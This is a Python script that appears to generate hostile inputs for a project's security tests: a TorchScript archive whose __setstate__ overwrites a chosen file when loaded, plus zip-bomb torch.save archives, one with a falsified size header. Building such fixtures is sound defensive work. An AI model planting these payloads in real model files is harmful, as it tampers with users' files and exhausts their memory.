"""Writes hostile inputs for the security tests (docs/security.md) into OUT_DIR.

Usage: make_hostile_inputs.py OUT_DIR VICTIM_FILE

- scripted_setstate.pt: a TorchScript archive shaped like the FID Inception whose __setstate__
  overwrites the first bytes of VICTIM_FILE through a shared memory map when LibTorch loads it.
- inflating_pickle.pth: a torch.save zip whose data.pkl is deflated ~1000:1 (a zip bomb).
- lying_pickle.pth: the same bomb, but the zip declares the inflated size to be small.
"""
import io
import os
import struct
import sys
import zipfile
import zlib
from typing import Tuple

import torch

out, victim = sys.argv[1], sys.argv[2]
os.makedirs(out, exist_ok=True)


class Conv(torch.nn.Module):
    victim: torch.jit.Final[str]

    def __init__(self, victim: str):
        super().__init__()
        self.victim = victim  # a constant baked into the scripted code
        self.weight = torch.nn.Parameter(torch.zeros(2, 3, 1, 1))

    def forward(self, x):
        return x

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, bool]:
        return (self.weight, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, bool]):
        # Runs inside torch.jit.load: maps the victim file shared and writes into it.
        page = torch.from_file(self.victim, True, 4, dtype=torch.uint8)
        page.fill_(88)
        self.weight = state[0] + page.sum().float() * 0  # keeps the write alive
        self.training = state[1]


torch.jit.script(Conv(victim)).save(os.path.join(out, "scripted_setstate.pt"))

# A torch.save archive whose data.pkl inflates to 64 MiB: a pickle that pushes one long string.
payload = b"\x80\x02X" + struct.pack("<I", 64 << 20) + b"A" * (64 << 20) + b"."
for name, declared in (("inflating_pickle.pth", None), ("lying_pickle.pth", 1000)):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("archive/data.pkl", payload)
        z.writestr("archive/version", "3\n")
    data = bytearray(buffer.getvalue())
    if declared is not None:
        # Patch the uncompressed size in the local header and the central directory.
        for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
            at = data.find(signature)
            struct.pack_into("<I", data, at + offset, declared)
    open(os.path.join(out, name), "wb").write(data)
